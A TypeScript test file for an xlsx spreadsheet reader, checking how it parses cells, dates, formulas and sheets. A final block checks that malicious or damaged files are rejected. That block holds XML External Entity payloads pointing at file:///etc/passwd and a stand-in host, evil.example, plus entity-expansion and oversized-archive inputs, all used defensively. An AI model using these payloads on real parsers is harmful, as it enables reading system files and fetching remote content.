import { Readable } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { storedFile, storedRows } from '../../../testing/stored-file.ts';
import { xlsxFile } from '../../../testing/xlsx-file.ts';
import type { MadeCell } from '../../../testing/xlsx-file.ts';
import { zipFile } from '../../../testing/zip-file.ts';
import { isFormulaError } from '../cell-text.ts';
import { lookAtSheet } from '../look-at-table.ts';
import { textOf } from '../table.ts';
import type { Checkpoint, TableFile } from '../table.ts';
import { kindOfFormat } from './number-formats.ts';
import { dateOfSerial } from './serial-date.ts';

const rowsOf = (bytes: Buffer, from?: Checkpoint, sheet = 0) => storedRows(bytes, { format: 'xlsx', sheet }, from);

/** The cells of the rows of the first sheet. */
async function cellsOf(making: Omit<Parameters<typeof xlsxFile>[0], 'sheets'>, ...rows: MadeCell[][]) {
  const read = await rowsOf(xlsxFile({ ...making, sheets: [{ name: 'Plan1', rows }] }));
  return read.map(({ cells }) => cells);
}

const faultOf = (bytes: Buffer) =>
  lookAtSheet(storedFile(bytes), null).then(
    () => 'read',
    (error: { kind?: string }) => error.kind,
  );

describe('what stands in the cells', () => {
  test.each(['shared', 'inline'] as const)('texts that are %s come as they were typed', async (texts) => {
    const row = ['Ana & Cia <ltda>', ' São Paulo\n2ª linha ', '=1+1', '_x0041_', '日本'];
    expect(await cellsOf({ texts }, row)).toEqual([['Ana & Cia <ltda>', ' São Paulo\n2ª linha ', '=1+1', 'A', '日本']]);
  });

  test('a phone kept as a number keeps its digits, and the noise of arithmetic goes', async () => {
    const cells = [11_987_654_321, { xml: '<c><v>5.511987654321E12</v></c>' }, 0.1 + 0.2, -3];
    expect((await cellsOf({}, cells))[0]?.map(textOf)).toEqual(['11987654321', '5511987654321', '0.3', '-3']);
  });

  test.each([
    ['a built-in date', 14, { day: '1990-05-17', time: null }],
    ['a date of Brazil', 'dd/mm/yyyy;@', { day: '1990-05-17', time: null }],
    ['a date in words', '[$-416]d" de "mmmm;@', { day: '1990-05-17', time: null }],
    ['a date and a time', 22, { day: '1990-05-17', time: null }],
    ['a number in colour', '[Red]#,##0.00', 33_010],
    ['a text in quotes', '0" dias"', 33_010],
    ['General', 'General', 33_010],
  ])('a number shown as %s', async (_, format, expected) => {
    expect(await cellsOf({ formats: [format] }, [{ number: 33_010, style: 1 }])).toEqual([[expected]]);
  });

  test('files of old Macs count from 1904', async () => {
    const cell = { number: 33_010 - 1_462, style: 1 };
    expect(await cellsOf({ formats: [14], is1904: true }, [cell])).toEqual([[{ day: '1990-05-17', time: null }]]);
  });

  test('a time of day, a date that is written as text, and a date with its time', async () => {
    const iso = { xml: '<c t="d"><v>1990-05-17T00:00:00</v></c>' };
    const cells = await cellsOf({ formats: ['hh:mm', 22] }, [
      { number: 0.75, style: 1 },
      iso,
      { number: 33_010.5, style: 2 },
    ]);
    expect(cells[0]?.map(textOf)).toEqual(['18:00:00', '1990-05-17', '1990-05-17 12:00:00']);
  });

  test('formulas give what was worked out last, or its error; without a value they are one, and blank with none', async () => {
    const cells = [
      { xml: '<c t="str"><f>A1&amp;"x"</f><v>Ana</v></c>' },
      { xml: '<c><f>1+1</f><v>2</v></c>' },
      { xml: '<c t="e"><f>1/0</f><v>#DIV/0!</v></c>' },
      { xml: '<c><f>NOW()</f></c>' },
      { xml: '<c t="str"><f>""</f><v></v></c>' },
      { xml: '<c t="str"><f>""</f><v/></c>' },
      { xml: '<c><f t="shared" si="0"/></c>' },
      { xml: '<c/>' },
      { xml: '<c t="b"><v>1</v></c>' },
    ];
    const [given] = await cellsOf({}, cells);
    expect(given).toEqual(['Ana', 2, '#DIV/0!', '#GETTING_DATA', '', '', '#GETTING_DATA', '', true]);
    expect(isFormulaError(textOf(given![3]!))).toBe(true);
  });

  test.each(['#N/A', '#SPILL!', '#NV', 'Error', ''])(
    'a cell is an error by its type, whatever it says: %j',
    async (said) => {
      const [cells] = await cellsOf({}, ['Ana', { xml: `<c t="e"><f>1/0</f><v>${said}</v></c>` }]);
      expect(cells?.map((cell) => isFormulaError(textOf(cell)))).toEqual([false, true]);
    },
  );

  test('rich text is joined, its reading aids are left out', async () => {
    const rich = '<si><r><t>Ana </t></r><r><rPr><b/></rPr><t>Maria</t></r><rPh><t>アナ</t></rPh></si>';
    const parts = { 'xl/sharedStrings.xml': `<sst>${rich}</sst>` };
    expect(await cellsOf({ parts }, [{ xml: '<c t="s"><v>0</v></c>' }])).toEqual([['Ana Maria']]);
  });
});

describe('where the cells stand', () => {
  const sheet = (data: string) => ({ parts: { 'xl/worksheets/sheet1.xml': `<worksheet>${data}</worksheet>` } });

  test('gaps are blank, rows and cells may leave out where they stand, and blank rows count', async () => {
    const data = `<sheetData><row r="3"><c r="B3"><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>
      <row r="9"><c r="A9" s="1"/></row><row r="10"><c r="A10" t="inlineStr"><is><t> </t></is></c></row><row r="11"><c><v>4</v></c></row></sheetData>`;
    const rows = await rowsOf(xlsxFile({ sheets: [{ name: 'x', rows: [] }], ...sheet(data) }));
    expect(rows.map(({ rowNo, cells }) => [rowNo, cells])).toEqual([
      [3, ['', 1, 2]],
      [4, [3]],
      [11, [4]],
    ]);
  });

  test('prefixes, another edition of the standard and paths from the root are the same to us', async () => {
    const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
    const bytes = xlsxFile({
      sheets: [{ name: 'x', rows: [] }],
      parts: {
        'xl/workbook.xml': `<x:workbook xmlns:x="a" xmlns:rel="b"><x:sheets><x:sheet name="x" sheetId="1" rel:id="R7"/></x:sheets></x:workbook>`,
        'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="R7" Type="${strict}/worksheet" Target="/xl/worksheets/Sheet1.xml"/></Relationships>`,
        'xl/worksheets/sheet1.xml': `<x:worksheet xmlns:x="a"><x:sheetData><x:row><x:c><x:v>5</x:v></x:c></x:row></x:sheetData></x:worksheet>`,
        'xl/styles.xml': undefined,
        'xl/sharedStrings.xml': undefined,
      },
    });
    expect((await rowsOf(bytes)).map(({ cells }) => cells)).toEqual([[5]]);
  });

  test('a cell far to the right is kept as one column too many, in little memory', async () => {
    const data = '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row></sheetData>';
    const [row] = await rowsOf(xlsxFile({ sheets: [{ name: 'x', rows: [] }], ...sheet(data) }));
    expect(row?.cells).toHaveLength(256);
    expect(row?.cells.at(-1)).toBe(2);
  });

  test('a row of more than 64 kB is cut and says so', async () => {
    const [row] = await rowsOf(
      xlsxFile({ sheets: [{ name: 'x', rows: [Array.from({ length: 4 }, () => 'a'.repeat(30_000))] }] }),
    );
    expect([row?.fault, row?.cells.length]).toEqual(['row_too_long', 2]);
  });

  test('the first visible sheet is meant, and another may be chosen', async () => {
    const bytes = xlsxFile({
      sheets: [
        { name: 'Listas', rows: [['oculta']], state: 'hidden' },
        { name: 'Clientes', rows: [['Nome'], ['Ana']] },
        { name: 'Outros', rows: [['Bia']] },
      ],
    });
    expect(await lookAtSheet(storedFile(bytes), null)).toMatchObject({
      layout: { format: 'xlsx', sheet: 1 },
      sheets: ['Listas', 'Clientes', 'Outros'],
      filledRows: 2,
      head: [
        { rowNo: 1, cells: ['Nome'] },
        { rowNo: 2, cells: ['Ana'] },
      ],
    });
    expect((await lookAtSheet(storedFile(bytes), 2)).head).toEqual([{ rowNo: 1, cells: ['Bia'] }]);
  });

  test('reading goes on behind a checkpoint, wherever it lies', async () => {
    const rows = Array.from({ length: 300 }, (_, at) => (at % 7 === 3 ? [] : [`linha ${at + 1}`, at]));
    const bytes = xlsxFile({ sheets: [{ name: 'x', rows }] });
    const all = await rowsOf(bytes);
    for (const at of [0, 1, 57, 254]) {
      const { rowNo, next } = all[at] ?? { rowNo: 0, next: 0 };
      expect(await rowsOf(bytes, { rows: rowNo, position: next })).toEqual(all.slice(at + 1));
    }
  });
});

describe('serial numbers of days', () => {
  test.each([
    [1, '1900-01-01'],
    [59, '1900-02-28'],
    [61, '1900-03-01'],
    [25_569, '1970-01-01'],
    [2_958_465, '9999-12-31'],
  ])('%i is %s', (serial, day) => {
    expect(dateOfSerial(serial, false)?.day).toBe(day);
  });

  test.each([0, -1, 60, 2_958_466, Number.NaN])('%d is no day', (serial) => {
    expect(dateOfSerial(serial, false)).toBe(null);
  });

  test.each([
    ['yyyy\\-mm\\-dd', 'date'],
    ['mmm/yy', 'date'],
    ['[h]:mm:ss', 'time'],
    ['h:mm AM/PM', 'time'],
    ['"d"0', 'number'],
    ['_-R$ * #,##0.00_-', 'number'],
    ['[>=100]0', 'number'],
    ['', 'number'],
  ])('%s stands for a %s', (code, kind) => {
    expect(kindOfFormat(code)).toBe(kind);
  });
});

describe('files that were made to hurt, or are broken', () => {
  const one = { sheets: [{ name: 'x', rows: [['Ana']] }] };
  const withSheet = (xml: string) => xlsxFile({ ...one, parts: { 'xl/worksheets/sheet1.xml': xml } });
  const whole = xlsxFile(one);

  test.each<[string, () => Buffer, string]>([
    ['a sheet of 12 MB in 12 kB', () => withSheet(`<worksheet>${' '.repeat(12_582_912)}</worksheet>`), 'too_large'],
    [
      'one text without an end',
      () => withSheet(`<worksheet><c t="inlineStr"><is><t>${'ab\n'.repeat(700_000)}</t></is></c></worksheet>`),
      'too_large',
    ],
    ['tags in tags in tags', () => withSheet('<a>'.repeat(1_000)), 'damaged'],
    [
      'entities that grow',
      () => withSheet('<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><worksheet>&d;</worksheet>'),
      'damaged',
    ],
    ['XML that does not close', () => withSheet('<worksheet><sheetData><row>'), 'damaged'],
    [
      'a table of texts that is not there',
      () => xlsxFile({ ...one, parts: { 'xl/sharedStrings.xml': undefined } }),
      'damaged',
    ],
    ['rows that go backwards', () => withSheet('<worksheet><row r="5"/><row r="2"/></worksheet>'), 'damaged'],
    ['row two million', () => withSheet('<worksheet><row r="2000000"/></worksheet>'), 'damaged'],
    [
      'a text that the table of texts does not have',
      () => withSheet('<worksheet><row><c t="s"><v>99</v></c></row></worksheet>'),
      'damaged',
    ],
    ['no workbook', () => xlsxFile({ ...one, parts: { 'xl/workbook.xml': undefined } }), 'damaged'],
    ['a workbook without sheets', () => xlsxFile({ ...one, parts: { 'xl/workbook.xml': '<workbook/>' } }), 'damaged'],
    [
      'a sheet that is not there',
      () => xlsxFile({ ...one, parts: { 'xl/worksheets/sheet1.xml': undefined } }),
      'damaged',
    ],
    ['half a file', () => whole.subarray(0, whole.length / 2), 'damaged'],
    ['a file whose bytes were changed', () => changed(whole), 'damaged'],
    ['a part that is packed in a way of its own', () => method(whole, 99), 'damaged'],
    ['a part with a password', () => flagged(whole, 1), 'encrypted'],
    ['a workbook in the binary format', () => zipFile({ 'xl/workbook.bin': 'x' }), 'spreadsheet'],
    ['an OpenDocument', () => zipFile({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }), 'spreadsheet'],
    ['a Numbers file', () => zipFile({ 'Index/Document.iwa': 'x' }), 'spreadsheet'],
    ['a Word document', () => zipFile({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<a/>' }), 'binary'],
    ['a zip of a CSV', () => zipFile({ 'contatos.csv': 'nome;e-mail' }), 'archive'],
    ['a zip of nothing', () => zipFile({}), 'archive'],
    [
      'more than ten thousand parts',
      () => zipFile(Object.fromEntries(Array.from({ length: 10_001 }, (_, at) => [`xl/${at}`, '']))),
      'too_large',
    ],
  ])('%s', async (_, make, kind) => {
    expect(await faultOf(make())).toBe(kind);
  });

  test.each([
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//x" "https://evil.example/x">]>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
    '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">',
  ])('[ASVS-34] an entity from outside is resolved nowhere: %s', async (type) => {
    for (const part of ['xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml', 'xl/workbook.xml', 'xl/styles.xml']) {
      // Whether it is asked for or not.
      for (const text of ['&x;', '']) {
        const root = part.includes('sheet1') ? `<worksheet>${text}</worksheet>` : `<a>${text}</a>`;
        expect([part, await faultOf(xlsxFile({ ...one, parts: { [part]: type + root } }))]).toEqual([part, 'damaged']);
      }
    }
  });

  test('a storage that is away is not the fault of the file', async () => {
    const away: TableFile = { sizeBytes: 10_000, read: () => Promise.reject(new Error('storage is away')) };
    await expect(lookAtSheet(away, null)).rejects.toThrow('storage is away');
  });

  test('a storage that goes away in the middle is not either', async () => {
    let opened = 0;
    const going: TableFile = {
      sizeBytes: whole.length,
      read(fromByte) {
        opened += 1;
        return opened < 4 ? storedFile(whole).read(fromByte) : Promise.resolve(Readable.from(cutOff(whole, fromByte)));
      },
    };
    await expect(lookAtSheet(going, null)).rejects.toThrow('storage is away');
  });
});

async function* cutOff(bytes: Buffer, fromByte: number): AsyncGenerator<Buffer> {
  yield bytes.subarray(fromByte, fromByte + 8);
  await Promise.reject(new Error('storage is away'));
}

/** Each entry of the directory and each local header, changed at an offset behind its signature. */
function patched(
  bytes: Buffer,
  offsets: { local: number; directory: number },
  write: (at: number, copy: Buffer) => void,
) {
  const copy = Buffer.from(bytes);
  for (const [signature, offset] of [
    ['PK\x03\x04', offsets.local],
    ['PK\x01\x02', offsets.directory],
  ] as const)
    for (let at = copy.indexOf(signature, 0, 'latin1'); at !== -1; at = copy.indexOf(signature, at + 4, 'latin1'))
      write(at + offset, copy);
  return copy;
}

const flagged = (bytes: Buffer, flags: number) =>
  patched(bytes, { local: 6, directory: 8 }, (at, copy) => copy.writeUInt16LE(flags, at));
const method = (bytes: Buffer, value: number) =>
  patched(bytes, { local: 8, directory: 10 }, (at, copy) => copy.writeUInt16LE(value, at));

/** The check sums of the directory no longer fit. */
function changed(bytes: Buffer): Buffer {
  return patched(bytes, { local: 14, directory: 16 }, (at, copy) => copy.writeUInt32LE(7, at));
}
